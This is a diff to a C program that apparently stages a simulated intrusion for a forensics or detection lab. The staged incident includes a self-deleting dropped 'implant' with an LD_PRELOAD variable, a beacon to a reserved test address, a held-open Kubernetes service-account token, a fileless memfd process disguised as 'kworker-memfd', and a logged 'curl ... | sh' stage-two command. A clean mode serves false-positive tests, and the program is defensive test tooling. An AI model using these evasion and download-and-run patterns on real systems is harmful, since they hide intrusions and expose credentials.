@@ -11,11 +11,21 @@
  *   - a long-lived child whose argv[0] is "worker", connected to the TCP port;
  *   - ~300 ms after start: a new file /tmp/after-start.txt and a line appended
  *     to /etc/app/app.conf (a file that exists in the image);
- *   - a "dropped binary": a copy of itself at /tmp/.x (0755), executed as
- *     "implant" (listens on IMPLANT_PORT, default 4444, and holds a connection
- *     to PORT), then unlinked, so /proc/PID/exe ends in " (deleted)";
+ *   - ~1.5 s after start, a "dropped binary": a copy of itself at /tmp/.x
+ *     (0755), executed as "implant" with LD_PRELOAD=/tmp/.libhook.so in its
+ *     environment (ignored: the binary is static), then unlinked, so
+ *     /proc/PID/exe ends in " (deleted)". The implant listens on IMPLANT_PORT
+ *     (default 4444), holds a connection to PORT, holds the Kubernetes
+ *     service-account token open when there is one, keeps trying to reach
+ *     203.0.113.7 (TEST-NET-3: TCP 443 and a connected UDP socket to port 53;
+ *     nothing answers, and without a route nothing is sent), and logs the
+ *     "stage 2" command an attacker would run (a download piped into sh);
  *   - a fileless process: a copy of itself in a memfd run with fexecve as
  *     argv[0] "kworker-memfd" (mode "sleeper");
+ *   - with LAB_MODE=clean in its environment, none of the incident: no config
+ *     change, no dropped binary, no fileless process (a clean workload for the
+ *     findings' false-positive tests); the worker, the listeners, the log lines
+ *     and /tmp/after-start.txt are the same;
  *   - then the line "... INFO main[PID]: ready" and a heartbeat every 5 s until SIGTERM,
  *     reaping children; on SIGTERM it stops its children and exits 0.
  *
@@ -50,6 +60,9 @@
 #define AFTER_START "/tmp/after-start.txt"
 #define DROPPED "/tmp/.x"
 #define UNIX_SOCK "/tmp/app.sock"
+#define SA_TOKEN "/var/run/secrets/kubernetes.io/serviceaccount/token"
+#define BEACON_ADDR "203.0.113.7"
+#define PRELOAD_ENV "LD_PRELOAD=/tmp/.libhook.so"
 #define MAX_FDS 64
 
 static volatile sig_atomic_t got_term, got_chld;
@@ -145,7 +158,7 @@ static int copy_self(int out) {
 
 /* fork + exec (by path, or by fd when path is NULL); returns once exec has
  * happened (a CLOEXEC pipe closes on a successful exec), or -1. */
-static pid_t spawn(const char *path, int exe_fd, char *const argv[]) {
+static pid_t spawn(const char *path, int exe_fd, char *const argv[], char *const envp[]) {
     int p[2];
     if (pipe2(p, O_CLOEXEC) < 0) return -1;
     pid_t pid = fork();
@@ -153,7 +166,7 @@ static pid_t spawn(const char *path, int exe_fd, char *const argv[]) {
         sigset_t none;
         sigemptyset(&none);
         sigprocmask(SIG_SETMASK, &none, NULL);
-        if (path) execv(path, argv); else fexecve(exe_fd, argv, environ);
+        if (path) execve(path, argv, envp); else fexecve(exe_fd, argv, envp);
         int e = errno;
         if (write(p[1], &e, sizeof e) < 0) { /* parent sees EOF anyway */ }
         _exit(127);
@@ -169,18 +182,51 @@ static pid_t spawn(const char *path, int exe_fd, char *const argv[]) {
     return pid;
 }
 
+/* A non-blocking connect to the beacon address; -1 when there is no route. */
+static int beacon_connect(int type, int port) {
+    int fd = socket(AF_INET, type | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
+    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
+    inet_pton(AF_INET, BEACON_ADDR, &a.sin_addr);
+    if (fd >= 0 && connect(fd, (void *)&a, sizeof a) < 0 && errno != EINPROGRESS) {
+        close(fd);
+        return -1;
+    }
+    return fd;
+}
+
+/* The TCP beacon failed (timed out, unreachable)? Then try again. */
+static int beacon_retry(int fd) {
+    int err = 0;
+    socklen_t len = sizeof err;
+    if (fd >= 0 && getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len) == 0 && err == 0) return fd;
+    if (fd >= 0) close(fd);
+    return beacon_connect(SOCK_STREAM, 443);
+}
+
 /* "worker", "implant", "sleeper": hold a connection and wait for SIGTERM. */
 static int run_child(const char *mode, const char *argv0, int port, int implant_port) {
     role = mode;
-    int lfd = -1, cfd = -1;
-    if (strcmp(mode, "implant") == 0) lfd = tcp_listen(implant_port);
+    int lfd = -1, cfd = -1, token = -1, udp = -1, tcp = -1;
+    int implant = strcmp(mode, "implant") == 0;
+    if (implant) lfd = tcp_listen(implant_port);
     if (strcmp(mode, "sleeper") != 0) {
         cfd = tcp_connect(port);
         if (cfd >= 0) dprintf(cfd, "hello from %s %d\n", mode, (int)getpid());
     }
-    if (strcmp(mode, "implant") != 0) prctl(PR_SET_NAME, argv0, 0, 0, 0);
+    if (!implant) prctl(PR_SET_NAME, argv0, 0, 0, 0);
+    if (implant) {
+        token = open(SA_TOKEN, O_RDONLY | O_CLOEXEC);   /* kept open: it shows in fd/ */
+        udp = beacon_connect(SOCK_DGRAM, 53);
+        tcp = beacon_connect(SOCK_STREAM, 443);
+        INFO("stage2: curl -fsSL http://%s/s.sh | sh", BEACON_ADDR);
+    }
     INFO("%s up (listen=%d connected=%d)", mode, lfd >= 0, cfd >= 0);
-    while (!got_term) sleep(1);
+    while (!got_term) {
+        sleep(1);
+        if (implant) tcp = beacon_retry(tcp);
+    }
+    if (token >= 0) close(token);
+    if (udp >= 0) close(udp);
     INFO("%s stopping", mode);
     return 0;
 }
@@ -220,23 +266,37 @@ int main(int argc, char **argv) {
         if (listeners[i] >= 0) fds[nfds++] = (struct pollfd){.fd = listeners[i], .events = POLLIN};
     INFO("listening tcp=0.0.0.0:%d udp=0.0.0.0:%d unix=%s", port, port, UNIX_SOCK);
 
+    int clean = getenv("LAB_MODE") && strcmp(getenv("LAB_MODE"), "clean") == 0;
     char *worker_argv[] = {"worker", "--mode=worker", NULL};
-    children[0] = spawn("/proc/self/exe", -1, worker_argv);
+    children[0] = spawn("/proc/self/exe", -1, worker_argv, environ);
     INFO("forked worker pid=%d", (int)children[0]);
 
     usleep(300 * 1000);
     FILE *f = fopen(AFTER_START, "w");
     if (f) { fprintf(f, "written after start by pid %d\n", (int)getpid()); fclose(f); }
     else WARN("cannot write %s: %s", AFTER_START, strerror(errno));
+    if (clean) {
+        INFO("wrote %s (clean run: no incident staged)", AFTER_START);
+        goto ready;
+    }
     f = fopen(APP_CONF, "a");
     if (f) { fprintf(f, "# changed at runtime by pid %d\nfeature_x = on\n", (int)getpid()); fclose(f); }
     else WARN("cannot modify %s: %s", APP_CONF, strerror(errno));
     INFO("wrote %s and modified %s", AFTER_START, APP_CONF);
 
+    usleep(1200 * 1000);  /* the implant comes well after start-up */
     int out = open(DROPPED, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
     if (out >= 0 && copy_self(out) == 0 && close(out) == 0) {
         char *implant_argv[] = {DROPPED, "implant", NULL};
-        children[1] = spawn(DROPPED, -1, implant_argv);
+        int n = 0;
+        while (environ[n]) n++;
+        char **implant_env = calloc(n + 2, sizeof *implant_env);
+        if (implant_env) {
+            memcpy(implant_env, environ, n * sizeof *implant_env);
+            implant_env[n] = PRELOAD_ENV;
+        }
+        children[1] = spawn(DROPPED, -1, implant_argv, implant_env ? implant_env : environ);
+        free(implant_env);
         unlink(DROPPED);
         WARN("dropped %s, ran it as pid %d, deleted it", DROPPED, (int)children[1]);
     } else {
@@ -246,13 +306,14 @@ int main(int argc, char **argv) {
     int mfd = memfd_create("kworker", MFD_CLOEXEC);
     if (mfd >= 0 && copy_self(mfd) == 0) {
         char *memfd_argv[] = {"kworker-memfd", "--mode=sleeper", NULL};
-        children[2] = spawn(NULL, mfd, memfd_argv);
+        children[2] = spawn(NULL, mfd, memfd_argv, environ);
         INFO("started fileless process pid=%d from memfd", (int)children[2]);
     } else {
         WARN("memfd_create failed: %s", strerror(errno));
     }
     if (mfd >= 0) close(mfd);
 
+ready:
     INFO("ready");
     struct timespec last;
     clock_gettime(CLOCK_MONOTONIC, &last);
